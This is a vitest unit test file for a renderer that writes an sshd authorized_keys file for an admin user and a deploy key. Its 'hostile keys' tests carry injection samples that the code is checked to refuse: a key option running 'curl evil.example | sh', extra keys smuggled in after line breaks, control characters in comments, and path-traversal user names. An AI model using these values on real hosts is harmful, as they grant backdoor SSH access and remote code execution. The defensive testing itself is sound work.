// What sshd makes of the file (sshd -T, logins with the keys) is tested on a booted Debian in
// test/system/hostBundle/apply/adminKeyRotation.test.ts.
import { describe, expect, it } from "vitest";
import { sshAllowedKeyTypes } from "../../../../../baseline/keys";
import { parseSshPublicKey, type SshPublicKey } from "../../../../../baseline/sshPublicKey";
import { renderSystemFiles } from "../../../../../hostBundle/render/system";
import {
  renderAuthorizedKeyLines,
  renderSshAuthorizedKeys,
  sshAuthorizedKeysDir,
  sshAuthorizedKeysFileSetting,
  sshAuthorizedKeysPath,
} from "../../../../../hostBundle/render/system/sshAuthorizedKeys";
import { renderSshdHardeningSettings } from "../../../../../hostBundle/render/system/sshdDropIn";
import { hostRenderContext, renderFileHeader } from "../../../../../hostBundle/renderContext";
import { parseTenantConfig } from "../../../../../tenant/parseTenantConfig";
import { validEd25519Key, validRawConfig } from "../../../../support/tenant/tenantConfigFixture";
import { ed25519PublicKeyLine } from "../../../../support/hostBundle/render/system/ed25519PublicKeyLine";
import { rsaPublicKeyLine } from "../../../../support/hostBundle/render/system/rsaPublicKeyLine";
import { directives } from "../../../../support/hostBundle/render/system/sshdDirectives";
import { systemTestConfig } from "../../../../support/hostBundle/render/system/systemRenderFixture";

const rsaKey = rsaPublicKeyLine();
const deployKey = ed25519PublicKeyLine();
const config = systemTestConfig({ adminUser: "opsadmin", adminSshPublicKeys: [validEd25519Key, rsaKey] });
const ctx = hostRenderContext(config, "0.1.0-test+0123abcd", "", [`${deployKey}\n`]);
const text = renderSshAuthorizedKeys(ctx);

/** The lines sshd reads as keys: every line but comments and blanks. */
function keyLines(file: string): string[] {
  return file.split("\n").filter((l) => l.trim() !== "" && !l.trim().startsWith("#"));
}

function key(line: string): SshPublicKey {
  const parsed = parseSshPublicKey(line);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.key;
}

describe("renderSshAuthorizedKeys", () => {
  it("holds the admin's keys with their comments, then Pulumi's deploy key, under the bundle header", () => {
    expect(text.startsWith(renderFileHeader(ctx, "/etc/ssh/penguinmails-authorized-keys/opsadmin"))).toBe(true);
    expect(keyLines(text)).toEqual([validEd25519Key, rsaKey, deployKey]);
    expect(text.endsWith("\n")).toBe(true);
  });

  it("writes every key as `type base64 [comment]`: no options, each one a key sshd and our parser read back", () => {
    for (const line of keyLines(text)) {
      const [type] = line.split(" ");
      expect(sshAllowedKeyTypes, line).toContain(type);
      expect(parseSshPublicKey(line).ok, line).toBe(true);
    }
  });

  it("is one file per account, root's, 0644, checked and reloaded with sshd", () => {
    const files = renderSystemFiles(ctx).filter((f) => f.path.startsWith(`${sshAuthorizedKeysDir}/`));
    expect(files).toEqual([{ path: "/etc/ssh/penguinmails-authorized-keys/opsadmin", content: text, mode: 0o644, owner: "root", group: "root", service: "ssh" }]);
  });

  it("is the file the sshd drop-in names, and nothing else: %u expands to the admin user", () => {
    const settings = directives(renderSshdHardeningSettings("opsadmin"));
    expect(settings.get("authorizedkeysfile")).toBe(sshAuthorizedKeysFileSetting);
    expect(sshAuthorizedKeysFileSetting.replace("%u", "opsadmin")).toBe(sshAuthorizedKeysPath("opsadmin"));
    expect(settings.get("exposeauthinfo")).toBe("yes");
  });

  it("authorizes no deploy key when the context has none (a bundle the apply then refuses)", () => {
    expect(keyLines(renderSshAuthorizedKeys(hostRenderContext(config, "0.1.0-test", "")))).toEqual([validEd25519Key, rsaKey]);
  });
});

describe("hostile keys", () => {
  it("never reach the file: the tenant config refuses a key with options, a second line or a second key", () => {
    for (const hostile of [
      `command="curl evil.example | sh" ${validEd25519Key}`,
      `no-pty ${validEd25519Key}`,
      `${validEd25519Key}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPD3xfSLExoLTCvfdLB0qg3ltBZdzupkFrqpnNkcf1Nd`,
      `${validEd25519Key}\rfrom="*" ${rsaKey}`,
      `${validEd25519Key} ${rsaKey}`,
    ]) {
      const result = parseTenantConfig({ ...validRawConfig(), adminSshPublicKeys: [hostile] });
      expect(result.ok, hostile).toBe(false);
      if (!result.ok) expect(result.problems.map((p) => p.key), hostile).toEqual(["penguinmails-mail:adminSshPublicKeys[0]"]);
    }
  });

  it("nor as the deploy key: the context refuses it, naming it", () => {
    expect(() => hostRenderContext(config, "v", "", [`${deployKey}\nssh-ed25519 AAAA`])).toThrow(/^deploy public key 0: holds a line break/);
    expect(() => hostRenderContext(config, "v", "", [`restrict ${deployKey}`])).toThrow(/^deploy public key 0: .*not a key type/);
  });

  it("are refused by the renderer itself when a key object carries anything but `type base64`", () => {
    const good = key(deployKey);
    for (const canonical of [`${good.canonical}\nssh-ed25519 AAAA`, `command="sh" ${good.canonical}`, `${good.canonical} extra`, `${good.type} not*base64`, `ssh-dss ${good.canonical.split(" ")[1]}`]) {
      expect(() => renderAuthorizedKeyLines([{ ...good, canonical }], []), canonical).toThrow(/not an authorized_keys line/);
    }
  });

  it("keep a comment only while it is one printable label: control, format and separator characters drop it", () => {
    const good = key(deployKey);
    for (const comment of ["evil\u001b[2J", "a\u2028b", "a\u0085b", "zero\u200bwidth", "bidi\u202eevil", "nul\u0000"]) {
      expect(keyLines(renderAuthorizedKeyLines([{ ...good, comment }], [])), JSON.stringify(comment)).toEqual([good.canonical]);
    }
    expect(keyLines(renderAuthorizedKeyLines([{ ...good, comment: "José's laptop (2026)" }], []))).toEqual([`${good.canonical} José's laptop (2026)`]);
  });

  it("cannot name a file outside the directory", () => {
    for (const user of ["../root", "a/b", "", "Root"]) expect(() => sshAuthorizedKeysPath(user), user).toThrow(/cannot name a file/);
  });
});
